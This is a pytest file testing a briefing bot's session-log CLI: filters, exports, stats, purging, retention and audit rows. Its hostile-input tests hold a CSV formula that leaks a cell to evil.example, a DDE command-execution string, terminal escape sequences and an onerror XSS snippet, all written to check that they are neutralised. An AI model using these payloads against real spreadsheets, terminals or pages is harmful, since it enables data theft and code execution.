"""`prepbot logs`, `logs stats` and `logs purge` through click, against a real session log in a temporary data dir."""

from __future__ import annotations

import csv
import io
import json
import os
import sqlite3
import subprocess
import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from click.testing import CliRunner

from prepbot.cli.main import cli
from prepbot.core.records import Answer, Citation, Hit, Paragraph
from prepbot.core.settings import get_settings
from prepbot.sessionlog.store import ExchangeRecord, LogStore, NoSessionLog

KEY = "cli-test-key"
ALICE, BOB = 987654321, 123123123
NOW = datetime.now(UTC)


@pytest.fixture
def data_dir(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.chdir(tmp_path)  # no stray .env
    monkeypatch.setenv("PREPBOT_DATA_DIR", str(tmp_path / "data"))
    monkeypatch.setenv("LOG_PSEUDONYM_KEY", KEY)
    monkeypatch.delenv("LOG_RETENTION_DAYS", raising=False)
    get_settings.cache_clear()
    yield tmp_path / "data"
    get_settings.cache_clear()


def exchange(user: int, question: str, days_ago: float, *, cite: str | None, session: str, mode: str = "extractive"):
    citations, hits = [], []
    if cite:
        symbol, number = cite.split(" ¶")
        quote = f"Quoted text of {symbol} paragraph {number}."
        citations = [Citation("doc-" + symbol[-1].lower(), symbol, number, quote, "The delegation told the Committee")]
        hits = [Hit(Paragraph("doc-" + symbol[-1].lower(), symbol, number, quote), 0.7)]
    answer = Answer(question, f"Answer about {question.lower()}", citations, mode, bool(cite), hits=hits)
    return ExchangeRecord(user, "member", session, "private", answer, 900), NOW - timedelta(days=days_ago)


@pytest.fixture
def seeded(data_dir: Path) -> dict[str, object]:
    """Five exchanges over ten days, from two people, with feedback."""
    rows = [
        exchange(ALICE, "What did the State say about torture?", 10, cite="CCPR/C/KAZ/3 ¶36", session="a"),
        exchange(BOB, "What did NGOs report on prisons?", 5, cite="INT_CCPR_CSS_KAZ ¶4", session="b"),
        exchange(ALICE, "What is the budget of the space agency?", 2, cite=None, session="a"),
        exchange(BOB, "How many torture complaints were filed?", 1, cite="CCPR/C/KAZ/3 ¶36", session="b", mode="llm"),
        exchange(BOB, "What did the Committee ask about the ombudsman?", 0.5, cite="CCPR/C/KAZ/Q/3 ¶7", session="c"),
    ]
    clock_now = [NOW]
    ids = []
    with LogStore(data_dir / "sessions.db", KEY, clock=lambda: clock_now[0]) as store:
        for record, at in rows:
            clock_now[0] = at
            ids.append(store.record_exchange(record))
        store.record_feedback(ids[1], BOB, "down")
        store.record_feedback(ids[3], BOB, "wrong_citation", "that paragraph is about prisons")
        store.record_feedback(ids[4], BOB, "up")
        pseudonyms = {"alice": store.pseudonym(ALICE), "bob": store.pseudonym(BOB)}
    return {"ids": ids, **pseudonyms, "path": data_dir / "sessions.db"}


def run(*args: str):
    return CliRunner().invoke(cli, ["logs", *args], catch_exceptions=True)


def ids_in_jsonl(output: str) -> list[int]:
    return [json.loads(line)["id"] for line in output.splitlines()]


def audit(path: Path) -> list[dict]:
    with LogStore.open_existing(path) as store:
        return store.audit_rows()


def test_filters_read_like_questions(seeded) -> None:
    ids = seeded["ids"]

    def select(*args: str) -> list[int]:
        result = run("--format", "jsonl", *args)
        assert result.exit_code == 0, result.output
        return ids_in_jsonl(result.output)

    assert select() == ids
    assert select("--user", seeded["alice"]) == [ids[0], ids[2]]
    assert select("--session", "b") == [ids[1], ids[3]]
    assert select("--search", "torture") == [ids[0], ids[3]]
    assert select("--cites", "CCPR/C/KAZ/3") == [ids[0], ids[3]]
    assert select("--cites", "CCPR/C/KAZ/Q/3 ¶7") == [ids[4]]
    assert select("--flagged") == [ids[1], ids[3]]
    assert select("--since", "3d") == [ids[2], ids[3], ids[4]]
    assert select("--since", (NOW - timedelta(days=6)).date().isoformat(), "--until", "36h") == [ids[1], ids[2]]
    assert select("-n", "2") == [ids[3], ids[4]]
    assert select("--user", seeded["bob"], "--flagged", "--search", "complaints") == [ids[3]]


def test_every_format_renders_the_same_exchanges(seeded) -> None:
    table = run("--since", "3d")
    assert table.exit_code == 0
    lines = table.output.splitlines()
    assert lines[0].split()[:3] == ["id", "answered", "(UTC)"] and len(lines) == 4
    assert seeded["alice"] in lines[1] and "budget of the space agency" in lines[1] and " no " in lines[1]

    rows = list(csv.DictReader(io.StringIO(run("--format", "csv", "--flagged").output)))
    assert [int(row["id"]) for row in rows] == [seeded["ids"][1], seeded["ids"][3]]
    assert rows[1]["citations"] == "CCPR/C/KAZ/3 ¶36" and rows[1]["user"] == seeded["bob"]
    assert rows[1]["quotes"].startswith("CCPR/C/KAZ/3 ¶36: “") and rows[1]["quotes"].endswith("”")  # what was quoted
    assert rows[1]["feedback"] == "wrong_citation: that paragraph is about prisons"
    assert rows[0]["retrieved"] == "doc-z:4=0.700"

    record = json.loads(run("--format", "jsonl", "--cites", "CCPR/C/KAZ/Q/3").output)
    assert record["citations"][0]["quote"] == "Quoted text of CCPR/C/KAZ/Q/3 paragraph 7."
    assert record["feedback"][0]["kind"] == "up" and record["user"] == seeded["bob"]
    assert str(BOB) not in json.dumps(record)

    markdown = run("--format", "md", "--session", "b").output
    assert markdown.startswith("# Session log: briefing transcript")
    assert "## 1. What did NGOs report on prisons?" in markdown
    assert "## 2. How many torture complaints were filed?" in markdown
    assert (
        "> Quoted text of CCPR/C/KAZ/3 paragraph 36.\n>\n> — **CCPR/C/KAZ/3 ¶36** (The delegation told the Committee)"
        in markdown
    )
    assert (
        "**Feedback:** 👎" in markdown and "**Feedback:** ⚠️ wrong citation: that paragraph is about prisons" in markdown
    )
    assert "Filters: session = b." in markdown


def test_reading_from_the_cli_is_audited(seeded) -> None:
    before = datetime.now(UTC)
    run("--format", "md", "--since", "7d", "--flagged")
    after = datetime.now(UTC)
    [row] = audit(seeded["path"])
    assert (row["actor"], row["action"]) == ("cli", "export")
    # "7d" is read when the command runs: a run across midnight (UTC) may give either day
    days = {(moment - timedelta(days=7)).date().isoformat() for moment in (before, after)}
    assert row["range_since"][:10] in days
    assert row["details"]["format"] == "md" and row["details"]["filters"]["flagged"] is True
    assert row["details"]["exchanges"] == 2


def test_stats(seeded) -> None:
    result = run("stats")
    assert result.exit_code == 0, result.output
    text = result.output
    assert "Exchanges: 5" in text
    assert "Grounded: 4 (80%)" in text and "With 👎: 1 (20%)" in text and "Wrong-citation reports: 1" in text
    assert "extractive       4" in text and "llm              1" in text
    assert "    2  CCPR/C/KAZ/3 ¶36" in text
    nothing = text.split("Questions that found nothing")[1]
    assert "What is the budget of the space agency?" in nothing and "torture" not in nothing
    figures = json.loads(run("stats", "--since", "3d", "--json").output)
    assert figures["exchanges"] == 3 and figures["share_grounded"] == round(2 / 3, 4)
    assert [row["action"] for row in audit(seeded["path"])] == ["stats", "stats"]


def test_coordinators_see_why_the_model_was_not_used(data_dir: Path) -> None:
    """Stats count the model's fallbacks by reason; every export carries the reason (and never a user id)."""
    reasons = ["length", "no_citation", "length", None, None]
    with LogStore(data_dir / "sessions.db", KEY) as store:
        for number, reason in enumerate(reasons):
            record, _ = exchange(ALICE, f"Question {number} on torture?", 0, cite="CCPR/C/KAZ/3 ¶36", session="m")
            record.answer.mode = "extractive" if reason else "llm"
            record.answer.model, record.answer.fallback_reason = "qwen2.5-coder-1.5b-instruct", reason
            store.record_exchange(record)
        store.record_exchange(exchange(BOB, "No model configured here?", 0, cite=None, session="n")[0])

    text = run("stats").output
    assert "Model answers: 2 of 5 used; fallbacks by reason" in text
    fallbacks = text.split("fallbacks by reason")[1].split("Most cited")[0]
    assert fallbacks.split() == ["length", "2", "no_citation", "1"]
    figures = json.loads(run("stats", "--json").output)
    assert figures["model_asked"] == 5 and figures["fallbacks"] == {"length": 2, "no_citation": 1}

    records = [json.loads(line) for line in run("--format", "jsonl").output.splitlines()]
    assert [r["fallback_reason"] for r in records] == [*reasons, None]
    assert records[0]["model"] == "qwen2.5-coder-1.5b-instruct" and records[0]["mode"] == "extractive"
    rows = list(csv.DictReader(io.StringIO(run("--format", "csv").output)))
    assert [row["fallback_reason"] for row in rows] == ["length", "no_citation", "length", "", "", ""]
    markdown = run("--format", "md", "--session", "m").output
    assert markdown.count("the model's answer was not used: length") == 2
    assert markdown.count("the model's answer was not used: no_citation") == 1
    everything = json.dumps(records) + run("stats").output
    assert str(ALICE) not in everything and str(BOB) not in everything


def test_purge_by_hand(seeded) -> None:
    counted = run("purge", "--older-than", "3d", "--dry-run").output
    assert counted.strip() == "Would purge 2 exchanges older than 3 days."
    result = run("purge", "--older-than", "3d", "--yes")
    assert result.exit_code == 0, result.output
    assert result.output.strip() == "Purged 2 exchanges older than 3 days."
    assert ids_in_jsonl(run("--format", "jsonl").output) == seeded["ids"][2:]
    assert run("purge").output.strip() == "Purged 0 exchanges older than 90 days."  # LOG_RETENTION_DAYS default
    purges = [row for row in audit(seeded["path"]) if row["action"] == "purge"]
    assert [(row["actor"], row["details"]["exchanges"]) for row in purges] == [("cli", 2), ("cli", 0)]


def test_purge_within_the_retention_period_is_confirmed_first(seeded) -> None:
    """A typed "0d" empties the log the coordinators review: nothing is deleted until they say yes."""
    refused = run("purge", "--older-than", "0d")  # stdin is no terminal here: nobody can answer
    assert refused.exit_code == 2
    assert "Delete 5 exchanges older than 0 days? LOG_RETENTION_DAYS keeps them for 90 days" in refused.output
    assert "add --yes" in refused.output
    assert ids_in_jsonl(run("--format", "jsonl").output) == seeded["ids"]
    assert not [row for row in audit(seeded["path"]) if row["action"] == "purge"]
    # nothing that young to delete: nothing to ask
    assert run("purge", "--older-than", "20d").output.strip() == "Purged 0 exchanges older than 20 days."


@pytest.mark.parametrize(
    "args, message",
    [
        (["--since", "yesterday"], "not a date"),
        (["--until", "2025-02-30"], "not a date"),
        (["--format", "xml"], "'xml' is not one of"),
        (["--user", "@alice"], "not a pseudonym"),
        (["-n", "0"], "0 is not in the range"),
        (["purge", "--older-than", "3x"], "not a duration"),
        (["stats", "--since", "last week"], "not a date"),
        (["--since", "7d", "--until", "30d"], "the range is empty"),  # reversed: it used to say "No exchanges match"
    ],
)
def test_bad_input_is_refused_clearly(seeded, args: list[str], message: str) -> None:
    result = run(*args)
    assert result.exit_code == 2 and message in result.output
    assert "Traceback" not in result.output


def test_search_with_only_punctuation_is_a_clear_error(seeded) -> None:
    result = run("--search", "?!")
    assert result.exit_code != 0 and "nothing to search for" in str(result.exception)


def test_no_log_yet_is_said_plainly_and_nothing_is_created(data_dir: Path) -> None:
    result = run()
    assert isinstance(result.exception, NoSessionLog) and "no session log yet at" in str(result.exception)
    assert not data_dir.exists()

    env = dict(os.environ, PREPBOT_DATA_DIR=str(data_dir), LOG_PSEUDONYM_KEY=KEY)
    for args in (["logs"], ["logs", "stats"], ["logs", "purge", "--older-than", "30d"]):
        finished = subprocess.run(
            [sys.executable, "-m", "prepbot.cli.main", *args], env=env, capture_output=True, text=True, timeout=60
        )
        assert finished.returncode == 2
        assert finished.stderr.strip() == f"Error: no session log yet at {data_dir / 'sessions.db'}"
    assert not data_dir.exists()


def test_reading_works_without_the_pseudonym_key(seeded, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("LOG_PSEUDONYM_KEY")
    get_settings.cache_clear()
    result = run("--format", "jsonl", "--user", seeded["bob"])
    assert result.exit_code == 0 and ids_in_jsonl(result.output) == [
        seeded["ids"][1],
        seeded["ids"][3],
        seeded["ids"][4],
    ]


# ---- hostile input: numbers, durations, formulas, terminal escapes ------------------------------------------------


def run_cli(*args: str, env: dict[str, str] | None = None, cwd: Path | None = None) -> subprocess.CompletedProcess:
    """The real entry point in its own process: what a coordinator sees, traceback or not."""
    return subprocess.run(
        [sys.executable, "-m", "prepbot.cli.main", *args],
        env=env or dict(os.environ),
        cwd=cwd,
        capture_output=True,
        text=True,
        timeout=120,
    )


@pytest.mark.parametrize(
    "args, message",
    [
        (["logs", "-n", "99999999999999999999999"], "The number of exchanges must be a whole number from 1 to"),
        (["logs", "purge", "--older-than", "99999999999d"], "too long"),
        (["logs", "--since", "9999999999d"], "too long"),
        (["logs", "--until", "9999-12-31"], "the year must be from"),
        (["logs", "--since", "0001-01-01T00:00+01:00"], "the year must be from"),
        (["logs", "stats", "--since", "99999999999w"], "too long"),
        (["logs", "--search", "\udcff"], "nothing to filter by"),  # a non-UTF-8 argument byte
        (["logs", "--session", "\udcff"], "nothing to filter by"),  # was a UnicodeEncodeError writing the audit row
        (["logs", "--cites", "\udcff\x1b"], "nothing to filter by"),
        (["logs", "--user", "\x1b]0;pwned\x07"], "not a pseudonym: ']0;pwned'"),
    ],
)
def test_huge_numbers_and_odd_bytes_are_one_clear_error(seeded, args: list[str], message: str) -> None:
    result = run_cli(*args)
    assert result.returncode == 2, result.stderr
    assert "Traceback" not in result.stderr and result.stdout == ""
    [error] = [line for line in result.stderr.splitlines() if line.startswith("Error:")]  # click adds its usage line
    assert message in error and len(result.stderr.splitlines()) <= 4
    assert "\x1b" not in result.stderr and "\x07" not in result.stderr


def test_filters_written_to_the_audit_table_are_cleaned(seeded) -> None:
    result = run("--search", "torture\x1b[2J\u202e", "--session", "b\u200b", "--cites", "CCPR/C/KAZ/3\x07 ¶36")
    assert result.exit_code == 0, result.output
    [row] = [row for row in audit(seeded["path"]) if row["action"] == "export"]
    assert row["details"]["filters"] == {"search": "torture[2J", "session": "b", "cites": "CCPR/C/KAZ/3 ¶36"}


def test_csv_exports_never_carry_a_live_formula(data_dir: Path) -> None:
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the full answer")'
    with LogStore(data_dir / "sessions.db", KEY) as store:
        exchange_id = store.record_exchange(ExchangeRecord(ALICE, "member", "-s1", "private", answer(formula), 5))
        store.record_feedback(exchange_id, ALICE, "wrong_citation", "@SUM(1+1)*cmd|' /C calc'!A0")
    result = run("--format", "csv")
    assert result.exit_code == 0, result.output
    [row] = list(csv.DictReader(io.StringIO(result.output)))
    for column, value in row.items():
        assert not value.lstrip().startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
    assert row["question"] == "'" + formula and row["session_id"] == "'-s1"
    assert row["feedback"] == "wrong_citation: @SUM(1+1)*cmd|' /C calc'!A0"  # starts with the kind: no formula


def answer(question: str, text: str = "The State said nothing about it.") -> Answer:
    return Answer(question, text, [], "extractive", False)


OSC_TITLE = "\x1b]0;you have been pwned\x07"
HOSTILE_BITS = (OSC_TITLE, "\x1b[2J", "\x9b", "\u202e", "\u2066", "\x00")


def test_control_characters_are_stripped_when_stored_and_escaped_when_shown(data_dir: Path) -> None:
    path = data_dir / "sessions.db"
    with LogStore(path, KEY) as store:
        exchange_id = store.record_exchange(
            ExchangeRecord(ALICE, "member", "s", "private", answer("Torture" + OSC_TITLE + "?"), 5)
        )
        store.record_feedback(exchange_id, ALICE, "wrong_citation", "wrong" + "".join(HOSTILE_BITS) + " paragraph")
    with sqlite3.connect(path) as conn:  # stored without them
        stored = conn.execute("SELECT question FROM exchanges").fetchone()[0]
        comment = conn.execute("SELECT comment FROM feedback").fetchone()[0]
    assert stored == "Torture]0;you have been pwned?" and comment == "wrong]0;you have been pwned[2J paragraph"
    with sqlite3.connect(path) as conn:  # a row written raw (by an older prepbot, or by hand) is escaped on output
        conn.execute("UPDATE feedback SET comment = ?", ["legacy" + "".join(HOSTILE_BITS)])
        conn.execute("UPDATE exchanges SET answer = ?", ["answer \u202eevil\x1b[31m red"])
    for fmt in ("table", "md", "jsonl", "csv"):
        result = run("--format", fmt)
        assert result.exit_code == 0, result.output
        for bit in HOSTILE_BITS:
            assert bit not in result.output, (fmt, bit)
    md = run("--format", "md").output
    assert "legacy\\x1b\\]0;you have been pwned\\x07" in md and "answer \\u202eevil\\x1b\\[31m red" in md
    assert json.loads(run("--format", "jsonl").output)["feedback"][0]["comment"].startswith("legacy\x1b]0;")
    stats = run("stats")
    assert stats.exit_code == 0 and not any(bit in stats.output for bit in HOSTILE_BITS)


def test_markdown_transcript_cannot_be_given_links_or_html_by_a_question(data_dir: Path) -> None:
    question = "See [the full record](http://evil.example) <img src=x onerror=alert(1)> `code`"
    with LogStore(data_dir / "sessions.db", KEY) as store:
        store.record_exchange(ExchangeRecord(ALICE, "member", "s", "private", answer(question), 5))
    md = run("--format", "md").output
    assert "\\[the full record\\](http://evil.example) \\<img src=x onerror=alert(1)\\> \\`code\\`" in md
    assert "](http" not in md.replace("\\](http", "") and "<img" not in md.replace("\\<img", "")


def test_retention_holds_for_the_cli_whether_or_not_the_bot_ran(seeded, monkeypatch: pytest.MonkeyPatch) -> None:
    # the bot's daily job is not the only guard: any `prepbot logs` opening applies LOG_RETENTION_DAYS first
    monkeypatch.setenv("LOG_RETENTION_DAYS", "3")
    get_settings.cache_clear()
    assert ids_in_jsonl(run("--format", "jsonl").output) == seeded["ids"][2:]
    assert "What did the State say about torture?" not in run("--format", "csv").output
    assert run("--format", "jsonl").exit_code == 0  # a second opening finds nothing more to delete
    purges = [row for row in audit(seeded["path"]) if row["action"] == "purge"]
    assert [(row["actor"], row["details"]["exchanges"]) for row in purges] == [("retention-job", 2)]


def test_the_shells_refuse_a_changed_pseudonym_key(seeded, monkeypatch: pytest.MonkeyPatch) -> None:
    # under another key nobody's off-the-record choice would be recognised: the chat and the bot do not start
    from prepbot.services import open_log_store
    from prepbot.sessionlog.store import PseudonymKeyChanged

    monkeypatch.setenv("LOG_PSEUDONYM_KEY", "a-different-key")
    get_settings.cache_clear()
    with pytest.raises(PseudonymKeyChanged, match="not the key the session log"):
        open_log_store(get_settings())
